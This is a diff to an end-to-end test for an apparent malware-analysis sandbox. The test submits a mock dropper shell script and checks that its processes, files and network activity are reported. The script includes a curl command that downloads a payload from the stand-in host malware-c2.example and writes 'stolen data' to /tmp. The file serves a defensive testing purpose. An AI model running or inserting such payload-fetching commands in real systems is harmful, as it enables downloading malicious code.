@@ -15,6 +15,8 @@ echo "stolen data" > /tmp/dropped.txt
 mkdir -p /tmp/stage
 sh -c 'echo from-child > /tmp/stage/child.txt'
 curl -s -o /tmp/stage/payload http://malware-c2.example/payload.bin
+# A process that outlives the timeout: its memory is dumped at the end, then the machine kills it.
+sleep 600 &
 sleep 1
 `;
 
@@ -51,7 +53,7 @@ describe('end to end on the Linux machine', { timeout: 900_000 }, () => {
   after(() => server.close());
 
   it('analyses a shell script and reports its processes, files, DNS, HTTP and dropped files', async () => {
-    const id = await submitFile(server, 'dropper.sh', SCRIPT, { memory: 'true' });
+    const id = await submitFile(server, 'dropper.sh', SCRIPT, { memory: 'true', timeout: '15' });
     const task = await waitForTask(server, id);
     assert.equal(task.status, 'reported', `errors: ${task.errors.join('; ')}`);
     const dir = join(server.ctx.layout.analyses, String(id));
